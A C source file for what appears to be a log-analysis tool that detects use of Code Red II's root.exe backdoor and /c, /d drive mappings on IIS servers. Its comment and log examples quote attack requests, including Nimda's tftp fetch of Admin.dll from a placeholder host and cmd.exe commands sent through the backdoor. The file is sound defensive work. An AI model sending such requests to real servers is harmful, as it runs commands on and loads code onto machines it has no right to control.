/* SPDX-License-Identifier: MIT */
/* Use of Code Red II's backdoor: root.exe (a copy of cmd.exe that CRII put in
 * \inetpub\scripts and \progra~1\common~1\system\MSADC, reachable as
 * /scripts/root.exe and /MSADC/root.exe) and the /c and /d virtual
 * directories mapping the drive roots ([SANS-ACR2],
 * [CERT-IN-2001-09], [Snort] 1256). Nimda's own four c+dir probes are
 * reported as nimda; this is everything else, such as Nimda's follow-up
 * "root.exe?/c+tftp -i <ip> GET Admin.dll" or a person typing commands. */
#include "worms/internal.h"

static const struct ws_signature sigs[] = {
	{1900501, 1, "backdoor-use.root-exe", "Command through Code Red II's root.exe backdoor",
	 "snort:1256,et:2101256"},
	{1900502, 1, "backdoor-use.drive-dir", "Request through Code Red II's /c or /d drive mapping",
	 "snort:1002,et:2009361"},
	{1900503, 1, "backdoor-use.path-only", "root.exe requested (query not logged)",
	 "snort:1256,et:2101256"},
};

static bool drive_mapping(struct ws_str path)
{
	return (ws_str_istarts(path, "/c/") || ws_str_istarts(path, "/d/")) &&
	       (ws_str_iends(path, "/cmd.exe") || ws_str_iends(path, "/root.exe"));
}

static const char *const prefilter[] = {"cmd\\.exe", "root\\.exe", NULL};

static bool match(const struct ws_request *r, struct ws_verdict *v)
{
	if (ws_str_iends(r->path, "/root.exe")) {
		if (r->form == WS_TARGET_FSPATH || !r->has_query) {
			ws_verdict_set(v, WS_CONF_HEURISTIC, &sigs[2],
				       r->form == WS_TARGET_FSPATH ? "error log: query not logged"
								   : "no command");
			return true;
		}
		const char *var = ws_str_istarts(r->query, "/c+tftp") ? "Nimda follow-up (tftp)" : NULL;
		bool known_dir = ws_str_ieq(r->path, "/scripts/root.exe") ||
				 ws_str_ieq(r->path, "/msadc/root.exe");
		ws_verdict_set(v, known_dir ? WS_CONF_EXACT : WS_CONF_PARTIAL, &sigs[0],
			       known_dir ? var : "root.exe outside /scripts and /MSADC");
		return true;
	}
	if (r->form != WS_TARGET_FSPATH && drive_mapping(r->path)) {
		ws_verdict_set(v, r->has_query ? WS_CONF_EXACT : WS_CONF_PARTIAL, &sigs[1], NULL);
		return true;
	}
	return false;
}

const struct ws_worm ws_worm_backdoor_use = {
	.id = "backdoor-use",
	.name = "Code Red II backdoor use",
	.aliases = "root.exe access, CodeRed v2 root.exe access",
	.first_seen = "2001-08-04",
	.what = "commands through root.exe or the /c, /d drive mappings, other than Nimda's probes",
	.log_forms = "Apache: \"GET /scripts/root.exe?/c+tftp%20-i%20... HTTP/1.0\"; "
		     "\"GET /c/winnt/system32/cmd.exe?/c+ver\"; Apache error log: File does not "
		     "exist: .../scripts/root.exe (heuristic: the command is not logged)",
	.sources = "[SANS-ACR2]; [CERT-IN-2001-09]; [KB317605]; [Snort] 1256; "
		   "[Bro] worm.bro (c+tftp) (see docs/sources.md)",
	.sigs = sigs,
	.nsigs = WS_NSIGS(sigs),
	.prefilter = prefilter,
	.generic = true,
	.success_3xx = true,
	.match = match,
	.behaviour = NULL,
};
